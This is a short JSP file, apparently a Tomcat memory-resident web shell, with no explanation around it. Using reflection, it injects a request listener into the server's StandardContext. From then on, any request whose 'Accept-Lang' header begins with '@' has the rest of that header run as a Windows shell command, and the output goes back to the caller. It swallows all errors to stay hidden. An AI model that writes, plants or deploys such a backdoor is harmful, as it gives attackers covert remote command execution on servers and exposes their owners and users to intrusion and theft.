<%@ page import="java.lang.reflect.Field,org.apache.catalina.core.StandardContext,org.apache.catalina.connector.Request,org.apache.catalina.connector.RequestFacade,java.io.*" %>
<%
    class L implements ServletRequestListener {
        public void requestDestroyed(ServletRequestEvent sre) {}
        public void requestInitialized(ServletRequestEvent sre) {
            RequestFacade facade = (RequestFacade) sre.getServletRequest();
            try {
                Field f = facade.getClass().getDeclaredField("request");
                f.setAccessible(true);
                Request r = (Request) f.get(facade);
                String c = r.getHeader("Accept-Lang");
                if (c != null && c.startsWith("@")) {
                    Process p = new ProcessBuilder(new String[]{"cmd", "/c", c.substring(1)}).start();
                    byte[] buf = new byte[8192];
                    int len = p.getInputStream().read(buf);
                    r.getResponse().getOutputStream().write(buf, 0, len);
                }
            } catch (Exception ignored) {}
        }
    }
    ServletContext sc = request.getServletContext();
    Field a = sc.getClass().getDeclaredField("context"); a.setAccessible(true);
    Object appCtx = a.get(sc);
    Field b = appCtx.getClass().getDeclaredField("context"); b.setAccessible(true);
    StandardContext std = (StandardContext) b.get(appCtx);
    std.addApplicationEventListener(new L());
%>
